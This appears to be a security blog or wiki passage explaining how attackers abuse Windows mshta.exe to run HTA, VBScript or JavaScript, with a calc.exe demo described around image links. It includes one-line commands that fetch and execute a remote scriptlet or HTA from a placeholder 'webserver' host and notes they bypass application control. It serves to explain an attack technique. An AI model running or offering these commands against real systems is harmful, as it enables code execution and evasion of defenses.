Adversaries may abuse mshta.exe to proxy execution of malicious .hta files and JavaScript or VBScript through a trusted Windows utility. There are several examples of different types of threats leveraging mshta.exe during initial compromise and for execution of code.

Mshta.exe is a utility that executes Microsoft HTML Application (HTA)files. HTAs are standalone applications that execute using the same models and technologies of Internet Explorer, but outside of the browser.

Files may be executed by mshta.exe through an inline script:mshta vbscript:Close(Execute("GetObject(""script:https://webserver/payload.sct"")"))

They may also be executed directly from URLs: mshta http[:]//webserver/payload[.]hta

Mshta.exe can be used to bypass application control solutions that do not account for its potential use. Since mshta.exe executes outside of the Internet Explorer's security context, it also bypasses browser security settings.I wrote a simple Python Script which will create easy HTA applications that will execute a simple PowerShell command this one was slightly edited to execute calc.exeThe following Demo demonstratesthe execution and Process Explorer running for seeing the flow ofexecution, with the resultof opening calc.exe


Last updated